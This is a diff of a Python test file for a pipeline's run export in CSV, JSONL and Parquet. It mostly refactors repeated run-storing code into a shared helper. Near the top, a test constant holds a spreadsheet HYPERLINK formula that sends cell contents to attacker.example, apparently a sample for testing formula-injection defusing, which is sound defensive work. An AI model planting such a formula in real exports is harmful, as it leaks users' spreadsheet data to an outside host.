@@ -10,7 +10,9 @@ import sys
 import pyarrow.parquet as pq
 import pytest
 
+from pipeline import store
 from pipeline.export import defuse_cell
+from pipeline.records import Result, RunConfig
 
 from .conftest import ROOT
 from .datasets import write
@@ -18,6 +20,22 @@ from .fakeprovider import FakeProvider
 
 STEERED = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
 TEXTS = ["=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "steer me", "plain, with = - + @ inside"]
+
+
+def stored_run(engine, run_id: str, results: list[Result]) -> None:
+    """A completed run with these results, written as the collector writes them (no worker, no stream)."""
+    config = RunConfig(
+        run_id=run_id,
+        dataset="d.csv",
+        dataset_hash="h",
+        template="{{ text }}",
+        provider="fake",
+        model="fake",
+        total_rows=len(results),
+    )
+    with store.writing(engine) as conn:
+        store.save_run(conn, config, "completed")
+        store.apply_results(conn, results)
 
 
 def cli(pipeline, *args: str) -> subprocess.CompletedProcess:
@@ -136,31 +154,15 @@ def test_export_reads_one_query_page_by_page_through_a_server_side_cursor_on_pos
     wait in a named cursor on the server while a page is being written, never whole in the exporting process."""
     from sqlalchemy import text
 
-    from pipeline import store
-    from pipeline.records import Result, RunConfig
-
     engine = store.make_engine(database_url)
-    with store.writing(engine) as conn:
-        store.save_run(
-            conn,
-            RunConfig(
-                run_id="paged",
-                dataset="d.csv",
-                dataset_hash="h",
-                template="{{ text }}",
-                provider="fake",
-                model="fake",
-                total_rows=25,
-            ),
-            "completed",
-        )
-        store.apply_results(
-            conn,
-            [
-                Result(run_id="paged", row_key=f"k{i}", row_index=i, status="succeeded", input={"text": "t"})
-                for i in (24 - i for i in range(25))
-            ],
-        )
+    stored_run(
+        engine,
+        "paged",
+        [
+            Result(run_id="paged", row_key=f"k{i}", row_index=i, status="succeeded", input={"text": "t"})
+            for i in (24 - i for i in range(25))
+        ],
+    )
     with engine.connect() as conn:
         pages = store.result_pages(conn, "paged", ["row_key", "cached"], 10)
         first = next(pages)
@@ -178,45 +180,30 @@ def test_a_run_larger_than_a_page_is_exported_whole_in_input_order(pipeline, tmp
     input order, with the input columns of the first page."""
     import random
 
-    from pipeline import store
     from pipeline.errors import ConfigError
     from pipeline.export import PAGE, export_chunks, export_run
-    from pipeline.records import Result, RunConfig
 
     rows = PAGE + 700
     order = list(range(rows))
     random.Random(7).shuffle(order)
-    with store.writing(pipeline.engine) as conn:
-        store.save_run(
-            conn,
-            RunConfig(
+    stored_run(
+        pipeline.engine,
+        "big",
+        [
+            Result(
                 run_id="big",
-                dataset="d.csv",
-                dataset_hash="h",
-                template="{{ text }}",
-                provider="fake",
-                model="fake",
-                total_rows=rows,
-            ),
-            "completed",
-        )
-        store.apply_results(
-            conn,
-            [
-                Result(
-                    run_id="big",
-                    row_key=f"k{i}",
-                    row_index=i,
-                    status="failed" if i % 9 == 0 else "succeeded",
-                    input={"text": f"=t{i}", "n": i},
-                    answer=f"a{i}",
-                    parsed={"i": i} if i % 2 else None,
-                    cost_nano=i,
-                    finished_at=1.0,
-                )
-                for i in order
-            ],
-        )
+                row_key=f"k{i}",
+                row_index=i,
+                status="failed" if i % 9 == 0 else "succeeded",
+                input={"text": f"=t{i}", "n": i},
+                answer=f"a{i}",
+                parsed={"i": i} if i % 2 else None,
+                cost_nano=i,
+                finished_at=1.0,
+            )
+            for i in order
+        ],
+    )
     for fmt in ("csv", "jsonl", "parquet"):
         assert export_run(pipeline.engine, "big", fmt, tmp_path / f"out.{fmt}") == rows
     exported = {
@@ -259,28 +246,15 @@ def test_a_database_made_before_the_export_index_gets_it_at_start(database_url):
     engine.dispose()
 
 
-def _stored_run(pipeline, run_id: str, inputs: list[dict]) -> None:
-    from pipeline import store
-    from pipeline.records import Result, RunConfig
-
-    config = RunConfig(
-        run_id=run_id,
-        dataset="d.jsonl",
-        dataset_hash="h",
-        template="{{ v }}",
-        provider="fake",
-        model="fake",
-        total_rows=len(inputs),
+def _run_of_inputs(pipeline, run_id: str, inputs: list[dict]) -> None:
+    stored_run(
+        pipeline.engine,
+        run_id,
+        [
+            Result(run_id=run_id, row_key=f"k{i}", row_index=i, status="succeeded", input=v, finished_at=1.0)
+            for i, v in enumerate(inputs)
+        ],
     )
-    with store.writing(pipeline.engine) as conn:
-        store.save_run(conn, config, "completed")
-        store.apply_results(
-            conn,
-            [
-                Result(run_id=run_id, row_key=f"k{i}", row_index=i, status="succeeded", input=v, finished_at=1.0)
-                for i, v in enumerate(inputs)
-            ],
-        )
 
 
 def test_parquet_takes_a_column_of_mixed_types_and_refuses_one_that_changes_type_whole(pipeline, tmp_path):
@@ -290,12 +264,12 @@ def test_parquet_takes_a_column_of_mixed_types_and_refuses_one_that_changes_type
     from pipeline.errors import ConfigError
     from pipeline.export import PAGE, export_run
 
-    _stored_run(pipeline, "mixed", [{"v": {"a": 1}}, {"v": "plain"}, {"v": None}, {"v": 7}])
+    _run_of_inputs(pipeline, "mixed", [{"v": {"a": 1}}, {"v": "plain"}, {"v": None}, {"v": 7}])
     assert export_run(pipeline.engine, "mixed", "parquet", tmp_path / "mixed.parquet") == 4
     values = [row["v"] for row in pq.read_table(tmp_path / "mixed.parquet").to_pylist()]
     assert values == ['{"a": 1}', "plain", None, "7"]
 
-    _stored_run(pipeline, "turns", [{"v": i} for i in range(PAGE)] + [{"v": "text"}])
+    _run_of_inputs(pipeline, "turns", [{"v": i} for i in range(PAGE)] + [{"v": "text"}])
     with pytest.raises(ConfigError, match=r"column 'v' is int64 in the first rows, but a row after row 5000"):
         export_run(pipeline.engine, "turns", "parquet", tmp_path / "turns.parquet")
     assert not (tmp_path / "turns.parquet").exists()
